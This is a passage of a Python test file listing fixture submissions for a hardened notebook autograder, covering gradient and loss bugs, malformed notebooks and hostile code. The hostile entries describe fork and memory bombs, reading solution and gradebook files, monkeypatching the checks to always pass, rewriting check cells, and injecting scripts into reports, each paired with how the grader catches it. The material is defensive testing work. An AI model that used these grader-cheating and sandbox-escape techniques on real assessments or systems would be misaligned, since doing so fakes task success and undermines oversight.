        note="svm_loss_naive leaves 0.5 * reg * sum(W**2) out of the loss: only its test "
             "cell loses, since no later graded cell uses svm_loss_naive."),
    Sample(
        "bug-svm-no-reg-in-grad",
        in_tests=False,
        fills={"svm_loss_vectorized": [svm_vectorised, svm_no_reg_in_grad]},
        lose={"test_svm_loss_vectorized"},
        note="svm_loss_vectorized leaves reg * W out of dW: its test cell loses, but the "
             "search of section 7 trains with it and still reaches 0.90 validation "
             "accuracy (the data gradient alone trains well), so test_best_val passes."),
    Sample(
        "bug-svm-reg-per-example",
        in_tests=False,
        fills={"svm_loss_vectorized": [svm_vectorised, svm_reg_per_example]},
        lose={"test_svm_loss_vectorized"},
        note="svm_loss_vectorized adds the regularisation once per example (N times too "
             "strong): its test cell loses, while the search still finds a setting "
             "(small reg) above 0.90, so test_best_val passes."),
    Sample(
        "bug-svm-counts-correct-class",
        in_tests=False,
        fills={"svm_loss_naive": [svm_counts_correct_class]},
        lose={"test_svm_loss_naive"},
        note="svm_loss_naive counts the correct class in the margin sum (loss + 1 per "
             "example, gradient still right): only its test cell loses."),
    Sample(
        "bug-svm-sum-not-mean",
        in_tests=False,
        fills={"svm_loss_vectorized": [svm_vectorised, svm_sum_not_mean]},
        lose={"test_svm_loss_vectorized"},
        note="svm_loss_vectorized sums over the examples instead of averaging: its test "
             "cell loses; in training that only scales the learning rate by the batch "
             "size, and the search still reaches 0.90, so test_best_val passes."),
    Sample(
        "bug-svm-modifies-x",
        fills={"svm_loss_vectorized": [svm_vectorised, svm_modifies_X]},
        lose={"test_svm_loss_vectorized"},
        in_tests=False,
        note="svm_loss_vectorized shifts the caller's X in place but returns the right "
             "numbers: its test cell loses; training passes copies (X[idx]) to it, so "
             "test_best_val passes."),
    Sample(
        "bug-softmax-no-shift",
        fills={"softmax_loss_naive": [softmax_no_shift]},
        lose={"test_softmax_loss_naive"},
        in_tests=False,
        note="softmax_loss_naive does not subtract the maximum score, so exp overflows on "
             "large scores: only its test cell loses (training uses the vectorised loss)."),
    Sample(
        "bug-softmax-sum-not-mean",
        in_tests=False,
        fills={"softmax_loss_vectorized": [softmax_vectorised, softmax_sum_not_mean]},
        lose={"test_softmax_loss_vectorized"},
        note="softmax_loss_vectorized sums over the examples: its test cell loses, but "
             "the full-batch search of section 6, whose steps are then about 1200 times "
             "too long, still reaches 0.947 (separable digits, finite thanks to the "
             "max-shift), so test_best_val_accuracy passes."),
    Sample(
        "bug-softmax-grad-missing-minus-one",
        in_tests=False,
        fills={"softmax_loss_vectorized": [softmax_vectorised, softmax_grad_missing_minus_one]},
        lose={"test_softmax_loss_vectorized", "test_best_val_accuracy"},
        note="softmax_loss_vectorized's gradient lacks the -1 at the correct class: its "
             "test cell loses, and the search of section 6 descends along it, so no "
             "setting reaches 0.90 and test_best_val_accuracy loses too."),
    Sample(
        "bug-l1-grad-kink-one",
        in_tests=False,
        fills={"l1_penalty": [l1_grad_kink_one]},
        lose={"test_l1_penalty"},
        note="l1_penalty's gradient is +reg at W == 0: the visible case has no zero and "
             "passes, the hidden and the unseen cases have zeros, so test_l1_penalty "
             "loses in nbgrader and in the integrity pass alike."),
    Sample(
        "bug-l2-no-half",
        in_tests=False,  # make test grades its kind in another sample
        fills={"l2_penalty": [l2_no_half]},
        lose={"test_l2_penalty"},
        note="l2_penalty uses reg * sum(W**2) without the 0.5: only its test cell loses."),
    Sample(
        "bug-elastic-ratio-swapped",
        in_tests=False,
        fills={"elastic_net_penalty": [elastic_right, elastic_ratio_swapped]},
        lose={"test_elastic_net_penalty"},
        note="elastic_net_penalty swaps the L1 and L2 shares (a helper function in the "
             "same cell): only its test cell loses."),
    Sample(
        "bug-classifier-global-random",
        in_tests=False,
        fills={"linear_classifier": [ClassifierRight, ClassifierGlobalRandom]},
        lose={"test_linear_classifier"},
        note="LinearClassifier ignores the Generator it is given: test_linear_classifier "
             "loses (not reproducible), but it still trains, so test_best_val passes."),
    Sample(
        "bug-softmax-global-shift",
        in_tests=False,
        fills={"softmax_loss_vectorized": [softmax_global_shift]},
        lose={"test_softmax_loss_vectorized"},
        note="softmax_loss_vectorized subtracts one maximum for the whole batch: the "
             "visible, hidden and unseen cases whose rows' scores sit ~1000 apart give nan, "
             "so its test cell loses; the digits' scores are close together, so the search "
             "of section 6 still reaches 0.90 and test_best_val_accuracy passes."),
    Sample(
        "bug-soft-threshold-no-clamp",
        in_tests=False,
        fills={"soft_threshold": [soft_threshold_no_clamp]},
        lose={"test_soft_threshold"},
        note="soft_threshold subtracts threshold * sign(W) without the clamp (the "
             "subgradient step): its test cell loses; the given comparison of section 8 "
             "then fails its assertions, which costs no points (it is no graded cell)."),
    Sample(
        "bug-soft-threshold-in-place",
        in_tests=False,
        fills={"soft_threshold": [soft_threshold_in_place]},
        lose={"test_soft_threshold"},
        note="soft_threshold computes the right values in the caller's W and returns it: "
             "the check says the values are right and the mutation is the only problem, "
             "and the integrity worker's change to W reaches the grader's copy, so "
             "test_soft_threshold loses in both."),
    Sample(
        "bug-classifier-uphill",
        fills={"linear_classifier": [ClassifierRight, ClassifierUphill]},
        lose={"test_linear_classifier", "test_best_val"},
        note="LinearClassifier steps uphill: test_linear_classifier loses, and the search "
             "of section 7 trains with it, so test_best_val loses as well."),

    # ------------------------------------------------------- structure
    Sample(
        "invalid-notebook",
        transform=replace_notebook("svm.ipynb", TRUNCATED_JSON),
        lose=SVM_TESTS,
        flags={"invalid-notebook"},
        status="failed",
        note="svm.ipynb is JSON cut off mid-save: nbgrader cannot run it (status "
             "failed), so every svm.ipynb test cell loses, while softmax.ipynb is "
             "autograded on its own and keeps all its points."),
    Sample(
        "missing-notebook",
        # make test grades a missing notebook in a2 (the one a later notebook builds on)
        in_tests=False,
        transform=delete_notebook("softmax.ipynb"),
        lose=SOFTMAX_TESTS,
        flags={"missing-notebook"},
        note="softmax.ipynb is not submitted: nbgrader scores it 0 and grades svm.ipynb "
             "normally, so only softmax.ipynb's test cells lose."),
    Sample(
        "renamed-notebook",
        in_tests=False,
        transform=rename_notebook("svm.ipynb", "svm_final.ipynb"),
        lose=SVM_TESTS,
        flags={"missing-notebook"},
        note="svm.ipynb is submitted as svm_final.ipynb: nbgrader skips the unknown name "
             "and scores svm.ipynb 0, so every svm.ipynb test cell loses and softmax.ipynb "
             "is graded normally."),
    Sample(
        "test-cell-deleted",
        transform=delete_cell("svm.ipynb", "test_svm_loss_vectorized"),
        flags={"test-cell-deleted"},
        note="A deleted test cell is put back by nbgrader (add_missing_cells) and the "
             "code is right, so nothing is lost; the deletion is reported."),
    Sample(
        "test-cell-edited",
        fills={"svm_loss_naive": [svm_vectorised, svm_no_reg_in_grad]},
        transform=edit_cell("svm.ipynb", "test_svm_loss_naive", "pass\n"),
        lose={"test_svm_loss_naive"},
        flags={"test-cell-edited"},
        note="The test of a wrong svm_loss_naive is replaced by `pass`: nbgrader restores "
             "the locked cell and the integrity pass checks the function, so both fail it "
             "and the edit is reported."),
    Sample(
        "test-cells-reordered",
        in_tests=False,
        transform=move_cell("svm.ipynb", "test_l2_penalty", after="test_l1_penalty"),
        flags={"test-cells-reordered"},
        note="test_l2_penalty is moved below test_l1_penalty, where every name it needs "
             "is defined: nothing is lost and the new order is reported."),
    Sample(
        "test-cell-duplicated",
        in_tests=False,
        transform=duplicate_cell("svm.ipynb", "test_svm_loss_naive"),
        flags={"test-cell-duplicated"},
        note="test_svm_loss_naive appears twice (copy and paste): nbgrader keeps the "
             "metadata of the last copy and both run and pass, so nothing is lost and the "
             "duplicate is reported (nbgrader 0.9.6 alone crashes here: DeduplicateIds "
             "leaves an empty nbgrader dict that add_missing_cells cannot read)."),

    # --------------------------------------------------------- hostile
    Sample(
        "hostile-infinite-loop",
        fills={"l1_penalty": [l1_right, LOOP_FOREVER]},
        lose={"test_l1_penalty"},
        flags={"timed-out", "tampered"},
        note="An endless loop after the def in the l1_penalty cell: nbgrader interrupts "
             "that cell at its timeout with l1_penalty already defined, so the rest runs "
             "and test_l1_penalty passes there, but the integrity worker never finishes "
             "loading the cell and is killed, so test_l1_penalty loses and the "
             "disagreement is flagged."),
    Sample(
        "hostile-swallow-interrupt",
        in_tests=False,
        fills={"elastic_net_penalty": [elastic_right, SWALLOW_INTERRUPTS]},
        lose={"test_elastic_net_penalty"},
        flags={"timed-out", "tampered"},
        note="A loop that swallows KeyboardInterrupt after the def in the "
             "elastic_net_penalty cell.  nbgrader's interrupt still ends it (it lands "
             "between the try blocks), with elastic_net_penalty defined, so the "
             "notebook goes on and its test passes there; the integrity worker never "
             "finishes loading the cell and is killed, so test_elastic_net_penalty "
             "loses and the disagreement is flagged."),
    Sample(
        "hostile-ignore-interrupt",
        in_tests=False,
        fills={"l2_penalty": [l2_right, IGNORE_INTERRUPTS]},
        lose={"test_l2_penalty", "test_best_val"},
        flags={"timed-out"},
        status="failed",
        note="The l2_penalty cell ignores SIGINT and then loops: nbgrader's interrupt "
             "cannot stop it, the kernel runs into its CPU limit and dies, so svm.ipynb "
             "cannot be autograded (status failed, test_best_val loses) while "
             "softmax.ipynb is graded on its own; the integrity worker never finishes "
             "loading the cell, so test_l2_penalty loses; svm.ipynb's other graded "
             "functions keep their points from the integrity pass."),
    Sample(
        "hostile-memory-bomb",
        in_tests=False,  # test_sandbox's memory-bomb test
        fills={"svm_loss_naive": [hostile_memory_bomb]},
        lose={"test_svm_loss_naive"},
        flags={"memory-limit"},
        note="svm_loss_naive allocates 128 MB blocks until the memory limit raises "
             "MemoryError: its test cell loses and the limit is reported; the kernel "
             "survives and no later graded cell uses svm_loss_naive."),
    Sample(
        "hostile-fork-bomb",
        in_tests=False,  # test_sandbox's fork-bomb test; its flag: attack-other-students
        fills={"l1_penalty": [hostile_fork_bomb]},
        lose={"test_l1_penalty"},
        flags={"sandbox-violation"},
        note="l1_penalty forks forever when called: the sandbox refuses the first fork "
             "(PermissionError), so test_l1_penalty loses and the refusal is reported."),
    Sample(
        "hostile-output-flood",
        in_tests=False,  # test_sandbox's and test_grading's output-flood tests
        fills={"softmax_loss_naive": [softmax_loops, hostile_prints_10mb]},
        flags={"output-truncated"},
        note="softmax_loss_naive prints 10 MB on its first call and is otherwise right: "
             "nothing is lost, and the integrity worker's captured output is truncated "
             "and reported."),
    Sample(
        "hostile-sys-exit",
        in_tests=False,  # test_sandbox's exits-and-crashes test
        fills={"l2_penalty": [l2_right, SYS_EXIT]},
        note="sys.exit() after the def in the l2_penalty cell raises SystemExit, which "
             "IPython and the integrity worker both catch with l2_penalty already "
             "defined: nothing is lost."),
    Sample(
        "hostile-os-exit",
        in_tests=False,
        fills={"elastic_net_penalty": [hostile_os_exit]},
        lose={"test_elastic_net_penalty", "test_best_val"},
        status="failed",
        note="elastic_net_penalty calls os._exit(1): the kernel dies in its test cell, "
             "so nbgrader cannot finish svm.ipynb (status failed, test_best_val loses) "
             "while softmax.ipynb is autograded on its own; the integrity worker dies on "
             "the call, so test_elastic_net_penalty loses; the other graded functions "
             "keep their points."),
    Sample(
        "hostile-abort",
        in_tests=False,  # test_sandbox's exits-and-crashes test
        fills={"linear_classifier": [ClassifierRight, ABORT]},
        lose={"test_linear_classifier", "test_best_val"},
        flags={"crashed"},
        status="failed",
        note="os.abort() after the class in the linear_classifier cell crashes the "
             "kernel (SIGABRT), so nbgrader cannot finish svm.ipynb (status failed, "
             "test_best_val loses) while softmax.ipynb is autograded on its own; it "
             "crashes the integrity worker that loads the cell, so "
             "test_linear_classifier loses and the crash is reported."),
    Sample(
        "hostile-read-solutions",
        fills={"svm_loss_vectorized": [hostile_reads_solution]},
        lose={"test_svm_loss_vectorized", "test_best_val"},
        flags={"sandbox-violation"},
        note="svm_loss_vectorized runs the solution notebook read from "
             "../../../solutions (which works without a sandbox): the kernel's sandbox "
             "refuses the read (reported) and the integrity worker's folder has no such "
             "path, so test_svm_loss_vectorized loses in both, and the search of section 7 "
             "fails with it, so test_best_val loses too."),
    Sample(
        "hostile-read-gradebook",
        in_tests=False,  # make test grades its kind in another sample
        fills={"svm_loss_naive": [svm_loops, hostile_reads_gradebook]},
        flags={"sandbox-violation"},
        note="svm_loss_naive tries to read ../../../gradebook.db and hides the refusal, "
             "then computes the right loss: nothing is lost, but the kernel's refused "
             "read must be reported."),
    Sample(
        "hostile-write-gradebook",
        in_tests=False,
        fills={"l2_penalty": [l2_right, hostile_writes_gradebook]},
        flags={"sandbox-violation"},
        note="l2_penalty tries to append to ../../../gradebook.db and hides the refusal, "
             "then computes the right penalty: nothing is lost, the gradebook is "
             "untouched and the refused write is reported."),
    Sample(
        "hostile-write-tmp",
        in_tests=False,  # make test grades its kind in another sample
        fills={"elastic_net_penalty": [elastic_right, hostile_writes_tmp]},
        note="elastic_net_penalty writes /tmp/owned.txt: every sandbox has a private "
             "/tmp of its own, gone when it ends, so the write succeeds there, reaches "
             "nothing of the machine's or another student's, and nothing is lost."),
    Sample(
        "monkeypatch-np-testing",
        in_tests=False,
        fills={"l2_penalty": [l2_no_half, PATCH_ASSERT_ALLCLOSE]},
        lose={"test_l2_penalty"},
        flags={"monkeypatch"},
        note="A wrong l2_penalty whose cell disables np.testing.assert_allclose, which "
             "the checks do not use: test_l2_penalty loses in nbgrader and in the "
             "integrity pass alike, and the patch is reported."),
    Sample(
        "monkeypatch-np-allclose",
        in_tests=False,  # make test grades both flags in monkeypatch-checks
        fills={"svm_loss_naive": [svm_vectorised, svm_no_reg_in_grad, PATCH_ALLCLOSE]},
        lose={"test_svm_loss_naive"},
        flags={"monkeypatch", "tampered"},
        note="A wrong svm_loss_naive whose cell makes np.allclose always True: the "
             "checks in the kernel then pass it, the integrity pass compares in the "
             "grader's own process and fails it, so test_svm_loss_naive loses and the "
             "patch and the disagreement are reported."),
    Sample(
        "monkeypatch-checks",
        fills={"svm_loss_naive": [svm_vectorised, svm_sum_not_mean, PATCH_CHECKS]},
        lose={"test_svm_loss_naive", "test_svm_loss_vectorized"},
        flags={"monkeypatch", "tampered", "check-bypassed"},
        note="A wrong svm_loss_naive whose cell replaces checks.check_svm_loss by a no-op: "
             "nbgrader passes it, the integrity pass (its own checks) fails it, so "
             "test_svm_loss_naive loses and the patch and the disagreement are reported; "
             "test_svm_loss_vectorized calls the no-op too, so neither test cell prints "
             "a success line and both are zeroed as bypassed, although "
             "svm_loss_vectorized is right."),
    Sample(
        "hostile-fake-best-val",
        fills={"svm_loss_vectorized": [svm_vectorised, svm_grad_wrong_sign]},
        transform=edit_cell("svm.ipynb", "svm-37", FAKE_SEARCH),
        lose={"test_svm_loss_vectorized", "test_best_val"},
        flags={"tampered"},
        note="svm_loss_vectorized returns the step instead of the gradient, and the "
             "search cell of section 7 just sets best_val = 0.99: test_svm_loss_vectorized "
             "loses in nbgrader and in the integrity pass; nbgrader passes test_best_val, "
             "but the grader's own run of the search with the student's LinearClassifier "
             "and svm_loss_vectorized climbs the loss (accuracy 0.00), so test_best_val "
             "loses and the disagreement is flagged."),
    Sample(
        "hostile-input-transformer",
        in_tests=False,  # test_bypass runs this transformer through a real kernel
        fills={"svm_loss_naive": [svm_loops, SKIP_CHECKS]},
        lose=SVM_TESTS,
        flags={"check-bypassed", "kernel-hooks"},
        note="The svm_loss_naive cell registers an IPython input transformer that turns "
             "every later cell calling a check into `pass`: nbgrader gives all of "
             "svm.ipynb's test cells full marks, but none printed its checks' success "
             "lines, so every one of them scores 0 (check-bypassed, although the "
             "functions are right) and the transformer is reported (kernel-hooks); "
             "softmax.ipynb runs in another kernel and keeps its points."),
    Sample(
        "monkeypatch-builtins",
        in_tests=False,
        fills={"l1_penalty": [l1_right, PATCH_BUILTINS]},
        flags={"monkeypatch"},
        note="The l1_penalty cell wraps builtins.__import__ and silences builtins.print, "
             "which changes no result: nothing is lost and the patches are reported."),
    # ------------------------------------------ attacks of a red team (issue 10)
    Sample(
        "attack-other-students",
        fills={"svm_loss_vectorized": [attack_reads_other_students]},
        lose={"test_svm_loss_vectorized", "test_best_val"},
        flags={"sandbox-violation"},
        note="svm_loss_vectorized looks for other students' svm.ipynb in the autograded "
             "and submitted folders and for the integrity workers' files in /tmp, to run "
             "the first one it finds: the sandbox holds none of them (its /tmp is its "
             "own), so it returns zeros, test_svm_loss_vectorized and the search of "
             "section 7 lose, and the search of the course's folders is reported."),
    Sample(
        "attack-hijack-kernels",
        in_tests=False,  # test_sandbox's kernel-over-ipc test sees only its own files
        fills={"l2_penalty": [l2_right, attack_hijacks_kernels]},
        flags={"sandbox-violation"},
        note="l2_penalty looks for other kernels' connection files (beside its own, "
             "in Jupyter's runtime folder, in /tmp) to make them exit and write into "
             "their folders: its folder of sockets holds only its own, so no other "
             "student is touched, the look into the grader's folder of kernels is "
             "reported, and the right penalty loses nothing."),
    Sample(
        "attack-network",
        fills={"elastic_net_penalty": [elastic_right, attack_network]},
        flags={"sandbox-violation"},
        note="elastic_net_penalty opens sockets to the host's loopback and beyond, and a "
             "zmq STREAM socket: the sandbox has its own network namespace with nothing "
             "in it, the Python sockets are reported (libzmq raises no audit event, and "
             "reaches nothing either), and the right value loses nothing."),
    Sample(
        "attack-environment",
        fills={"l2_penalty": [l2_right, attack_environment]},
        note="l2_penalty prints the whole environment into its test cell's output (and "
             "so into the feedback): the sandbox's environment holds only allow-listed "
             "names, so the instructor's secrets stay out (tests/test_pipeline.py checks "
             "every output for a token), and nothing is lost."),
    Sample(
        "attack-injection",
        fills={"svm_loss_naive": [attack_injection], "l2_penalty": [l2_right, DISPLAY_SCRIPT]},
        lose={"test_svm_loss_naive"},
        note="svm_loss_naive raises an error whose message would forge a report heading "
             "for the student 'correct', carries <script> and <img onerror> into "
             "report.md and starts a spreadsheet formula; the l2_penalty cell displays a "
             "script: test_svm_loss_naive loses, the report and CSVs show the text "
             "escaped (tests/test_pipeline.py checks them), and no script runs in the "
             "feedback page (tests/test_report.py)."),
    Sample(
        "attack-many-files",
        fills={"l1_penalty": [l1_right, MANY_FILES]},
        note="The l1_penalty cell makes 100,000 empty files in its folder: the folder is "
             "the sandbox's own tmpfs, so none reaches the disk, the feedback or "
             "another student's grading, and nothing is lost."),
    Sample(
        "attack-big-files",
        in_tests=False,  # make test grades its kind in another sample
        fills={"elastic_net_penalty": [elastic_right, BIG_FILES]},
        note="The elastic_net_penalty cell writes 150 files of 16 MB: the sandbox's "
             "folder is a 64 MB tmpfs, so the fifth file fails with 'No space left' "
             "(the cell catches it), nothing reaches the disk or the feedback, and "
             "nothing is lost."),
    Sample(
        "attack-output-300mb",
        in_tests=False,
        fills={"l1_penalty": [l1_right, PRINT_300MB]},
        flags={"output-truncated"},
        note="The l1_penalty cell prints 300 MB: the autograder keeps 10 MB of a "
             "notebook's output and drops the rest (reported), the integrity worker's "
             "output is cut at its limit, and nothing is lost."),
    Sample(
        "attack-slow-everything",
        in_tests=False,
        fills={"svm_loss_naive": [svm_loops, slow("svm_loss_naive")],
               "svm_loss_vectorized": [svm_vectorised, slow("svm_loss_vectorized")],
               "l2_penalty": [l2_right, slow("l2_penalty")],
               "l1_penalty": [l1_right, slow("l1_penalty")],
               "elastic_net_penalty": [elastic_right, slow("elastic_net_penalty")],
               "soft_threshold": [soft_threshold_right, slow("soft_threshold")]},
        lose=(SVM_TESTS | SOFTMAX_TESTS) - {"test_linear_classifier", "test_softmax_loss_naive",
                                            "test_softmax_loss_vectorized"},
        flags={"timed-out"},
        status="failed",
        note="Every svm answer cell but LinearClassifier's sleeps 29 s (below the cell "
             "limit) and its function 25 s per call (each test cell runs into its 30 s "
             "limit): svm.ipynb needs more than the student's whole time budget, so "
             "nbgrader's run is stopped there and never run again, and softmax.ipynb "
             "gets no time left. The integrity pass runs beside it in the same budget, "
             "30 s per call: the slow functions fail it, the fast LinearClassifier and "
             "softmax losses pass it and keep their points, and the best_val cells, "
             "values no finished notebook computed, score 0. One student takes at most "
             "the budget, and the others are graded as if alone."),
    Sample(
        "attack-symlink-solution",
        transform=_svm_links_to_the_solution,
        lose=SVM_TESTS,
        flags={"refused-file"},
        status="failed",
        note="svm.ipynb is a symbolic link to the instructor's solution: collection "
             "refuses links, so nbgrader never reads it (svm.ipynb's cells lose, the "
             "solution appears nowhere) and softmax.ipynb is graded normally."),
    Sample(
        "attack-metadata-list",
        in_tests=False,  # test_collect's list-metadata case
        transform=_metadata_is_a_list,
        lose=SVM_TESTS,
        flags={"invalid-notebook"},
        status="failed",
        note="An answer cell of svm.ipynb has a list for its metadata: not valid "
             "nbformat, refused at collection with the reason (svm.ipynb's cells lose) "
             "instead of a grader error; softmax.ipynb is graded normally."),
    Sample(
        "attack-deep-json",
        in_tests=False,
        transform=replace_notebook("svm.ipynb", DEEP_JSON),
        lose=SVM_TESTS,
        flags={"invalid-notebook"},
        status="failed",
        note="svm.ipynb nests 200,000 levels deep: refused at collection with the "
             "reason, not a RecursionError of the grader; softmax.ipynb is graded "
             "normally."),
    Sample(
        "monkeypatch-aliased",
        in_tests=False,  # make test grades its kind in another sample
        fills={"svm_loss_naive": [svm_vectorised, svm_no_reg_in_grad, PATCH_ALIASED]},
        lose={"test_svm_loss_naive"},
        flags={"monkeypatch", "tampered"},
        note="A wrong svm_loss_naive whose cell patches np.allclose through an alias "
             "(import numpy as N): the patch is reported like a direct one, and the "
             "integrity pass fails the function."),
]
